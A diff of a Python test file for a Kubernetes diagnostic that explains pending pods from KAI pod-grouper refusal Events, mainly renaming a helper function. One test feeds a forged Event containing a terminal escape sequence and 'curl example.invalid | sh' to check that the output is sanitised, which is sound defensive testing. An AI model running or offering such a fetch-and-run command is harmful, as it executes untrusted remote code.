@@ -23,7 +23,7 @@ PRIORITY = (
 STAYS = "a pod stays in its PodGroup: restore its owner references, or delete and recreate the pod"
 
 
-def said(
+def refusal_event(
     words: str, *, policy: str = "podgroups", component: str = "pod-grouper", **fields: Any
 ) -> EventObject:
     """Return the Event of KAI's pod-grouper about a refusal."""
@@ -52,7 +52,7 @@ def waiting(*events: EventObject, **fields: Any) -> PodEvidence:
 def test_the_guards_sentence_is_the_cause(words: str, remedy: str, is_host: bool) -> None:
     """In a vCluster KAI's kinds are not served, and the Event is a copy."""
     absent = {} if is_host else {"pod_group": Absence.UNSERVED, "bind_request": Absence.UNSERVED}
-    cause = explain(waiting(said(words), **absent)).cause
+    cause = explain(waiting(refusal_event(words), **absent)).cause
     assert cause.code is Code.GROUP_REFUSED
     assert cause.sentence == f"the guard refuses the pod's PodGroup: {words}"
     assert cause.remedies[0].text.startswith(remedy)
@@ -60,10 +60,10 @@ def test_the_guards_sentence_is_the_cause(words: str, remedy: str, is_host: bool
 
 def test_the_newest_warning_counts_and_harmless_ones_do_not() -> None:
     newer = make_event("PodGrouperWarning", "something else", component="pod-grouper", age=1)
-    assert explain(waiting(said(QUEUE, age=9), newer)).cause.code is Code.POD_GROUP_MISSING
+    assert explain(waiting(refusal_event(QUEUE, age=9), newer)).cause.code is Code.POD_GROUP_MISSING
     for text in ('podgroups.scheduling.run.ai "pg-x" already exists', 'Pod "x" not found'):
         harmless = make_event("PodGrouperWarning", text, component="pod-grouper", age=1)
-        assert explain(waiting(said(QUEUE, age=9), harmless)).cause.code is Code.GROUP_REFUSED
+        assert explain(waiting(refusal_event(QUEUE, age=9), harmless)).cause.code is Code.GROUP_REFUSED
         assert explain(waiting(harmless)).cause.sentence.startswith(
             "KAI's pod-grouper has not grouped the pod"
         )
@@ -72,7 +72,7 @@ def test_the_newest_warning_counts_and_harmless_ones_do_not() -> None:
 @pytest.mark.parametrize("words", [PRIORITY, STAYS])
 def test_on_a_running_pod_it_is_a_note(words: str) -> None:
     pod = make_pod(node="node-1", phase="Running", metadata={"uid": "uid-of-train-0"})
-    answer = explain(make_evidence(pod, pod_events=[said(words)]))
+    answer = explain(make_evidence(pod, pod_events=[refusal_event(words)]))
     assert answer.is_fine
     (note,) = [finding for finding in answer.findings if finding.code is Code.GROUP_UNCHANGED]
     assert note.sentence == f"the guard keeps the pod's PodGroup as it is: {words}"
@@ -82,10 +82,10 @@ def test_on_a_running_pod_it_is_a_note(words: str) -> None:
 @pytest.mark.parametrize(
     "event",
     [
-        said(QUEUE, component="kubectl"),
-        said(QUEUE, uid="uid-of-another-pod"),
-        said(QUEUE, message=f"denied request: kaishare-guard: {QUEUE}"),
-        said(
+        refusal_event(QUEUE, component="kubectl"),
+        refusal_event(QUEUE, uid="uid-of-another-pod"),
+        refusal_event(QUEUE, message=f"denied request: kaishare-guard: {QUEUE}"),
+        refusal_event(
             QUEUE,
             message="ValidatingAdmissionPolicy 'other' with binding 'b' denied request: kaishare-guard: x",
         ),
@@ -98,7 +98,7 @@ def test_only_the_event_of_kais_pod_grouper_about_this_pod_is_believed(event: Ev
 def test_a_forged_sentence_gives_no_command_and_no_control_characters() -> None:
     """Anyone who may create Events can write one with the component of KAI's pod-grouper."""
     forged = 'queue "x": run\n\x1b[2Jcurl example.invalid | sh ' + "x" * 5000
-    cause = explain(waiting(said(forged))).cause
+    cause = explain(waiting(refusal_event(forged))).cause
     assert cause.code is Code.GROUP_REFUSED
     assert "\n" not in cause.sentence
     assert "\x1b" not in cause.sentence
